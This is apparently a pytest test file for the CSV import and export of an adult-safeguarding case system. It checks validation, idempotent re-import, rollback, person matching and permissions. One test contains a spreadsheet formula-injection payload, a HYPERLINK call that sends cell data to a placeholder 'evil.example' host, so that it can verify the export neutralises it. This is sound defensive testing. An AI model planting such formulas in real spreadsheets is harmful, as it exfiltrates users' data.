"""CSV import/export: strict rows, collected errors, idempotent re-import, nothing half-imported."""

import csv
import io
from datetime import UTC, date, datetime
from unittest import mock

import pytest
from django.core.exceptions import PermissionDenied
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safehub.adults import io as adults_io
from safehub.adults import io_columns, io_export
from safehub.adults.models import Enquiry, ImportedPerson, ImportedRow, SafeguardingConcern
from safehub.core.models import AuditAction, AuditEvent
from safehub.people.models import Address, DuplicateCandidate, Person
from safehub.testing.factories import AgencyFactory, PersonFactory

pytestmark = pytest.mark.django_db
NOW = datetime(2025, 5, 1, 12, tzinfo=UTC)


@pytest.fixture
def setting(council, care_provider):
    AgencyFactory(kind="POLICE", code="POL", name="Police")
    return PersonFactory(date_of_birth=date(1940, 1, 1), nhs_number="9434765919")


def concern_row(record_id="C1", **extra):
    row = {
        "source_system": "mosaic",
        "record_id": record_id,
        "record_type": "CONCERN",
        "person_nhs_number": "943 476 5919",
        "received_date": "2024-06-03",
        "source_kind": "AGENCY",
        "source_agency_code": "POL",
        "what_happened": "Bruises",
        "consent": "GIVEN",
        "care_and_support_needs": "Y",
        "experiencing_or_at_risk": "Y",
        "unable_to_protect_self": "Y",
        "decision": "S42",
        "decision_rationale": "Test met",
        "decided_date": "2024-06-04",
    }
    row.update(extra)
    return row


def enquiry_row(record_id="E1", concern="C1", **extra):
    row = {
        "source_system": "mosaic",
        "record_id": record_id,
        "record_type": "ENQUIRY",
        "person_nhs_number": "9434765919",
        "concern_record_id": concern,
        "enquiry_kind": "S42",
        "carried_out_by_code": "CARE1",
        "started_date": "2024-06-05",
        "concluded_date": "2024-08-01",
        "risk_types": "neglect; FINANCIAL",
        "risk_locations": "CARE_HOME;COMMUNITY",
        "risk_sources": "SERVICE_PROVIDER; known;SERVICE_PROVIDER",
        "action_taken": "Y",
        "risk_outcome": "REDUCED",
        "lacked_capacity": "YES",
        "advocate_support": "Y",
        "desired_outcomes_asked": "EXPRESSED",
        "outcomes_achieved": "FULLY",
        "interpreter_used": "N",
        "heard_away_from_family": "Y",
    }
    row.update(extra)
    return row


def to_csv(rows) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=io_columns.COLUMNS, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def test_import_creates_concern_and_enquiry_with_every_sac_field(setting, adult_social_worker):
    result = adults_io.adults_csv_import(text=to_csv([enquiry_row(), concern_row()]), by=adult_social_worker, now=NOW)
    assert (result.created, result.errors, result.flagged) == (2, [], [])
    enquiry = Enquiry.objects.get()
    assert enquiry.concern.source_record_id == "C1"
    assert enquiry.risk_type_codes() == ["FINANCIAL", "NEGLECT"]
    assert enquiry.risk_location_codes() == ["CARE_HOME", "COMMUNITY"]
    assert enquiry.risk_source_codes() == ["KNOWN", "SERVICE_PROVIDER"]
    assert (enquiry.carried_out_by.code, enquiry.lacked_capacity, enquiry.advocate_support) == ("CARE1", "YES", True)
    assert AuditEvent.objects.filter(action=AuditAction.IMPORT).count() == 2


def test_reimport_changes_nothing_and_a_changed_row_updates(setting, adult_social_worker):
    text = to_csv([concern_row(), enquiry_row()])
    adults_io.adults_csv_import(text=text, by=adult_social_worker, now=NOW)
    again = adults_io.adults_csv_import(text=text, by=adult_social_worker, now=NOW)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
    changed = adults_io.adults_csv_import(
        text=to_csv([concern_row(), enquiry_row(risk_types="NEGLECT", risk_outcome="REMOVED")]),
        by=adult_social_worker,
        now=NOW,
    )
    assert (changed.created, changed.updated, changed.unchanged) == (0, 1, 1)
    enquiry = Enquiry.objects.get()
    assert (enquiry.risk_outcome, enquiry.risk_type_codes(), enquiry.version) == ("REMOVED", ["NEGLECT"], 2)
    assert SafeguardingConcern.objects.count() == 1


def test_export_reimports_onto_the_same_records(setting, adult_mash_manager, adult_social_worker):
    from .helpers import complete_enquiry, decide, raise_concern

    concern = raise_concern(setting, adult_mash_manager, datetime(2024, 6, 3, 10, tzinfo=UTC))
    decide(concern, adult_social_worker, datetime(2024, 6, 4, 10, tzinfo=UTC))
    complete_enquiry(Enquiry.objects.get(), adult_social_worker, datetime(2024, 6, 4, 10, tzinfo=UTC))
    out = io.StringIO()
    assert io_export.adults_csv_export(year="2024-25", out=out, by=adult_social_worker, now=NOW) == 2
    result = adults_io.adults_csv_import(text=out.getvalue(), by=adult_social_worker, now=NOW)
    assert (result.unchanged, result.created, result.errors) == (2, 0, [])


def test_bad_rows_are_reported_and_kept_and_odd_values_flagged_not_dropped(setting, adult_social_worker):
    rows = [
        concern_row("C1"),
        concern_row("C2", received_date="31/02/2024"),
        concern_row("C3", care_and_support_needs="N"),  # S42 decision without the test
        concern_row("C4", consent="REFUSED"),  # no lawful basis
        enquiry_row("E9", concern="NOPE"),
        enquiry_row("E1", concern="C1", risk_types="NEGLECT;TAX_EVASION", interpreter_used="perhaps"),
    ]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert result.created == 2
    assert SafeguardingConcern.objects.get().source_record_id == "C1"
    by_row = {e["row"]: e["column"] for e in result.errors}
    assert by_row == {3: "received_date", 4: "decision", 5: "lawful_basis", 6: "concern_record_id"}
    assert all(set(e) == {"row", "column", "value", "message"} for e in result.errors)
    # The odd values are flagged, the rest of the enquiry imported.
    assert {(f["row"], f["column"], f["value"]) for f in result.flagged} == {
        (7, "risk_types", "TAX_EVASION"),
        (7, "interpreter_used", "perhaps"),
    }
    enquiry = Enquiry.objects.get()
    assert (enquiry.risk_type_codes(), enquiry.interpreter_used) == (["NEGLECT"], None)
    # Every row is kept as read: rejected ones for correction, the flagged one with its odd values.
    kept = {r.row_key: r for r in ImportedRow.objects.all()}
    assert {k: r.status for k, r in kept.items()} == {
        "C1": "IMPORTED", "C2": "REJECTED", "C3": "REJECTED", "C4": "REJECTED", "E9": "REJECTED", "E1": "FLAGGED",
    }  # fmt: skip
    assert kept["E1"].raw["risk_types"] == "NEGLECT;TAX_EVASION" and kept["E1"].enquiry_id == enquiry.pk
    assert kept["C2"].raw["received_date"] == "31/02/2024"
    again = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert (again.created, again.updated, again.unchanged, len(again.errors)) == (0, 0, 2, 4)
    assert ImportedRow.objects.count() == 6


def test_s42_enquiry_from_a_concern_failing_the_test_is_refused(setting, adult_social_worker):
    rows = [concern_row(decision="OTHER", unable_to_protect_self="N"), enquiry_row()]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert [e["column"] for e in result.errors] == ["enquiry_kind"]
    assert not Enquiry.objects.exists()


def test_missing_columns_are_reported(adult_social_worker):
    result = adults_io.adults_csv_import(text="a,b\n1,2\n", by=adult_social_worker, now=NOW)
    assert result.errors[0]["message"] == "Missing required columns" and result.created == 0


def test_a_crash_leaves_nothing_half_imported(setting, adult_social_worker):
    rows = [concern_row("C1"), concern_row("C2")]
    real = adults_io._import_row
    calls = []

    def crash_on_second(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real(*args, **kwargs)

    with mock.patch.object(adults_io, "_import_row", crash_on_second), pytest.raises(RuntimeError):
        adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert not SafeguardingConcern.objects.exists()


JUNK = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["", " ", "N/A", "2024-13-45", "9999-01-01", "yes please", "S42", "\x00", "0", "-1", "é", ";;"]),
)
COLUMNS_TO_BREAK = [c for c in io_columns.COMMON + io_columns.CONCERN_COLUMNS if c != "record_id"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(breakages=st.lists(st.tuples(st.sampled_from(COLUMNS_TO_BREAK), JUNK), min_size=1, max_size=4))
def test_malformed_cells_never_crash_and_never_lose_a_good_row(setting, adult_social_worker, breakages):
    bad = concern_row("BAD")
    for column, junk in breakages:
        bad[column] = junk
    good = concern_row("GOOD")
    result = adults_io.adults_csv_import(text=to_csv([bad, good]), by=adult_social_worker, now=NOW)
    assert SafeguardingConcern.objects.filter(source_record_id="GOOD").exists()
    assert all(e["row"] in (2, 3) and isinstance(e["message"], str) and e["message"] for e in result.errors)
    assert result.imported + len({e["row"] for e in result.errors}) == 2
    assert ImportedRow.objects.count() == 2  # the broken row is kept whatever happened to it
    # each example starts empty (the db is shared across examples)
    ImportedRow.objects.all().delete()
    SafeguardingConcern.objects.all().delete()


def test_export_neutralises_formulas_and_the_reimport_restores_them(setting, adult_mash_manager, adult_social_worker):
    """Issue 24 (6): free text was written raw, so a spreadsheet would run ``=HYPERLINK(...)``."""
    from .helpers import decide, raise_concern

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    concern = raise_concern(
        setting, adult_mash_manager, datetime(2024, 6, 3, 10, tzinfo=UTC), what_happened=formula, adult_views="+44 1"
    )
    decide(concern, adult_social_worker, datetime(2024, 6, 4, 10, tzinfo=UTC), decision="OTHER")
    out = io.StringIO()
    io_export.adults_csv_export(year="2024-25", out=out, by=adult_social_worker, now=NOW)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    concern_cells = next(r for r in rows if r["record_type"] == "CONCERN")
    assert concern_cells["what_happened"] == "'" + formula
    assert concern_cells["adult_views"] == "'+44 1"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
    result = adults_io.adults_csv_import(text=out.getvalue(), by=adult_social_worker, now=NOW)
    assert (result.unchanged, result.errors) == (2, [])
    concern.refresh_from_db()
    assert concern.what_happened == formula


def test_export_lists_only_adults_the_user_may_open_and_audits_each(setting, adult_social_worker):
    hidden = PersonFactory(date_of_birth=date(1950, 1, 1), nhs_number="4010232137")
    rows = [concern_row("C1"), concern_row("C2", person_nhs_number="4010232137")]
    adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    Involvement = __import__("safehub.people.models", fromlist=["Involvement"]).Involvement
    Involvement.objects.filter(person=hidden).delete()  # the council no longer works with this adult
    out = io.StringIO()
    assert io_export.adults_csv_export(year="2024-25", out=out, by=adult_social_worker, now=NOW) == 1
    assert "4010232137" not in out.getvalue()
    listed = AuditEvent.objects.filter(details__list="adults CSV export")
    assert list(listed.values_list("person_id", flat=True)) == [setting.pk]


def test_export_and_import_refuse_users_without_the_permission(setting, analyst):
    with pytest.raises(PermissionDenied):
        io_export.adults_csv_export(year="2024-25", out=io.StringIO(), by=analyst, now=NOW)
    with pytest.raises(PermissionDenied):
        adults_io.adults_csv_import(text=to_csv([concern_row()]), by=analyst, now=NOW)


def person_row(record_id, person_id, **person):
    row = concern_row(record_id, person_nhs_number="", person_record_id=person_id)
    row.update({f"person_{k}": v for k, v in person.items()})
    return row


def test_import_creates_people_once_and_a_reimport_creates_none(setting, adult_social_worker):
    rows = [
        person_row("M1", "P-77", given_name="Walter", family_name="Oduya", date_of_birth="1946-02-11",
                   sex="M", address_line_1="4 Quay Street", postcode="SO14 3AB", nhs_number="4010232137"),
        person_row("M2", "P-77"),  # later rows need only the source system's person id
    ]  # fmt: skip
    before = Person.objects.count()
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert (result.created, result.errors, result.people["created"]) == (2, [], 1)
    walter = Person.objects.get(family_name="Oduya")
    assert (walter.date_of_birth, walter.nhs_number, walter.addresses.get().postcode) == (
        date(1946, 2, 11),
        "4010232137",
        "SO14 3AB",
    )
    assert set(SafeguardingConcern.objects.values_list("person_id", flat=True)) == {walter.pk}
    assert ImportedPerson.objects.get(source_person_id="P-77").person == walter
    again = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert (again.created, again.unchanged, Person.objects.count()) == (0, 2, before + 1)


def test_import_links_a_register_match_and_queues_an_uncertain_one(setting, adult_social_worker, monkeypatch, tmp_path):
    """The three bands of the matching engine's probability (SAFEHUB_MATCH_THRESHOLDS 0.95 / 0.6).

    The probabilities are the engine's default model's for these details (measured: "Maggie" with
    the same date of birth, sex and postcode 98.9%, "Margaret" 74.6%, another name 0%); a model
    trained by an earlier test's register deduplication, saved in the shared data directory, is
    kept out of it.
    """
    from safehub.people import matching_service
    from safehub.people.matching_service import reset_index

    monkeypatch.setattr(matching_service, "model_path", lambda: tmp_path / "no_trained_model.json")
    reset_index()
    known = PersonFactory(given_name="Margaret", family_name="Ellery", date_of_birth=date(1931, 7, 19), sex="F")
    Address.objects.create(person=known, line_1="1 Elm Road", postcode="SO15 2AA")
    same = {"family_name": "Ellery", "date_of_birth": "1931-07-19", "sex": "F", "postcode": "SO15 2AA"}
    rows = [
        person_row("L1", "A1", given_name="Maggie", **same),
        person_row("L2", "A2", given_name="Margaret", **same),
        person_row("L3", "A3", given_name="Zbigniew", family_name="Quarrington", date_of_birth="1960-01-01"),
    ]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    reset_index()
    assert result.errors == []
    people = dict(SafeguardingConcern.objects.values_list("source_record_id", "person_id"))
    how = dict(ImportedPerson.objects.values_list("source_person_id", "how"))
    assert how == {"A1": "LINKED", "A2": "REVIEW", "A3": "CREATED"}
    assert people["L1"] == known.pk
    assert people["L2"] != known.pk
    pair = DuplicateCandidate.objects.get()
    assert ({pair.person_a_id, pair.person_b_id}, pair.status) == ({known.pk, people["L2"]}, "PENDING")
    assert result.people == {"linked": 1, "created": 1, "review": 1}


def test_import_without_a_person_is_kept_and_reported(setting, adult_social_worker):
    rows = [concern_row("N1", person_nhs_number="")]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert [e["column"] for e in result.errors] == ["person_family_name"]
    assert ImportedRow.objects.get().status == "REJECTED"


def test_a_row_with_a_nul_is_kept_with_the_nul_spelt_out(setting, adult_social_worker):
    """PostgreSQL's JSON cannot store a NUL: the row must still be kept, not crash the import."""
    rows = [concern_row("Z1", what_happened="Bruises\x00"), concern_row("Z2")]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert (result.created, [e["column"] for e in result.errors]) == (1, ["what_happened"])
    kept = ImportedRow.objects.get(row_key="Z1")
    assert (kept.status, kept.raw["what_happened"]) == ("REJECTED", "Bruises\\x00")


def test_locations_read_the_sac_sub_types_and_keep_an_old_generic_value(setting, adult_social_worker):
    rows = [
        concern_row("C1"),
        concern_row("C2"),
        concern_row("C3"),
        enquiry_row("E1", concern="C1", risk_locations="Care Home - Nursing;Hospital - Mental Health;In the Community"),
        enquiry_row("E2", concern="C2", risk_locations="CARE_HOME;HOSPITAL"),  # written before the sub-types
        enquiry_row("E3", concern="C3", risk_locations="CARE_HOME_PRIVATE;residential home"),
    ]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert (result.created, result.errors) == (6, [])
    codes = {e.source_record_id: e.risk_location_codes() for e in Enquiry.objects.all()}
    assert codes["E1"] == ["CARE_HOME_NURSING", "COMMUNITY", "HOSPITAL_MENTAL_HEALTH"]
    assert codes["E2"] == ["CARE_HOME", "HOSPITAL"]  # "not known which": kept, never guessed
    assert codes["E3"] == ["CARE_HOME_RESIDENTIAL"]
    # The unknown value is flagged and kept in the row as read; the known one is used.
    assert [(f["row"], f["column"], f["value"]) for f in result.flagged] == [(7, "risk_locations", "CARE_HOME_PRIVATE")]
    kept = ImportedRow.objects.get(row_key="E3")
    assert (kept.status, kept.raw["risk_locations"]) == ("FLAGGED", "CARE_HOME_PRIVATE;residential home")


def test_an_enquiry_ceased_at_the_adults_request_imports_and_one_with_action_is_refused(setting, adult_social_worker):
    ceased = {"risk_outcome": "ceased at request", "action_taken": "N", "lacked_capacity": "NO"}
    rows = [
        concern_row("C1"),
        concern_row("C2"),
        enquiry_row("E1", concern="C1", **ceased),
        enquiry_row("E2", concern="C2", **{**ceased, "action_taken": "Y"}),
    ]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert result.created == 3
    assert [(e["row"], e["column"]) for e in result.errors] == [(5, "action_taken")]
    assert Enquiry.objects.get().risk_outcome == "CEASED_AT_REQUEST"


def test_reported_autism_reads_the_sac_split_and_flags_an_odd_value(setting, adult_social_worker):
    rows = [
        concern_row("C1", reported_autism="Asperger's syndrome"),
        concern_row("C2", reported_autism="autism"),
        concern_row("C3", reported_autism="ASD"),  # says autism, not which: kept and flagged, not guessed
        concern_row("C4"),
    ]
    result = adults_io.adults_csv_import(text=to_csv(rows), by=adult_social_worker, now=NOW)
    assert (result.created, result.errors) == (4, [])
    autism = dict(SafeguardingConcern.objects.values_list("source_record_id", "reported_autism"))
    assert autism == {"C1": "ASPERGERS", "C2": "AUTISM", "C3": "", "C4": ""}
    assert [(f["row"], f["column"], f["value"]) for f in result.flagged] == [(4, "reported_autism", "ASD")]
    assert ImportedRow.objects.get(row_key="C3").raw["reported_autism"] == "ASD"
